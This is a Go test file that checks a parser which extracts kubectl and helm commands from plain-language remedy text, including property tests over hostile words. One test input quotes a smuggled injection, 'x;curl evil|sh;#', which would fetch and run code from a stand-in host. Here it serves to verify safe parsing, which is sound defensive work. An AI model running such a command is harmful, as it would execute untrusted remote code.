package shell

import (
	"slices"
	"testing"

	"pgregory.net/rapid"
)

// TestV6Commands: the commands in a remedy are found within its text.
func TestV6Commands(t *testing.T) {
	for remedy, want := range map[string][]string{
		"":                         nil,
		"wait until it is done":    nil,
		"kubectl get pods -n shop": {"kubectl get pods -n shop"},
		"look why: kubectl --context east describe pv 'x;curl evil|sh;#'":                         {"kubectl --context east describe pv 'x;curl evil|sh;#'"},
		"in cluster east: kubectl logs -n shop job/x; then kubectl delete pod -n shop a":          {"kubectl logs -n shop job/x", "kubectl delete pod -n shop a"},
		"see both (kubectl get pv a; kubectl get pv b), and say so":                               {"kubectl get pv a", "kubectl get pv b"},
		"pause it: kubectl migrate pause web -n shop, then kubectl migrate resume web -n shop.":   {"kubectl migrate pause web -n shop", "kubectl migrate resume web -n shop"},
		"kubectl get pv | grep 'a;b/c'":                                                           {"kubectl get pv | grep 'a;b/c'"},
		"keep it: kubectl get x -o yaml && kubectl delete x a":                                    {"kubectl get x -o yaml", "kubectl delete x a"},
		"keep it: kubectl get pv a -o json > pv.json; edit it":                                    {"kubectl get pv a -o json > pv.json"},
		"kubectl and the cluster":                                                                 nil,
		"for example kubectl migrate run web --volume data=copy,...":                              nil,
		"say who: helm upgrade --install web CHART --take-ownership (before Helm 4 without that)": {"helm upgrade --install web CHART --take-ownership"},
		"kubectl annotate pdb -n shop 'it'\\''s' a=b; and wait":                                   {`kubectl annotate pdb -n shop 'it'\''s' a=b`},
		"kubectl get pods -l a=b,c=d -o 'jsonpath={.items}'":                                      {"kubectl get pods -l a=b,c=d -o 'jsonpath={.items}'"},
		"kubectl get pods -n '":                                                                   {"kubectl get pods -n"},
	} {
		if got := Commands(remedy); !slices.Equal(got, want) {
			t.Errorf("%s: got %q, want %q", remedy, got, want)
		}
	}
}

// TestV6CommandsOfWords: a command with any words is found as a whole, alone and within a sentence.
func TestV6CommandsOfWords(t *testing.T) {
	word := rapid.OneOf(rapid.SampledFrom(hostile), rapid.StringMatching(`[a-z0-9'=/-]{0,9}[a-z0-9'=/-]`))
	rapid.Check(t, func(t *rapid.T) {
		one := Kubectl{Flags: "--context east"}.Do("get", rapid.SliceOfN(word, 0, 5).Draw(t, "words")...)
		for _, remedy := range []string{one, "first " + one + "; then " + one + ", and wait", "(" + one + ")"} {
			for _, got := range Commands(remedy) {
				if got != one {
					t.Fatalf("%q has %q, want %q", remedy, got, one)
				}
			}
			if len(Commands(remedy)) == 0 {
				t.Fatalf("%q has no command", remedy)
			}
		}
	})
}
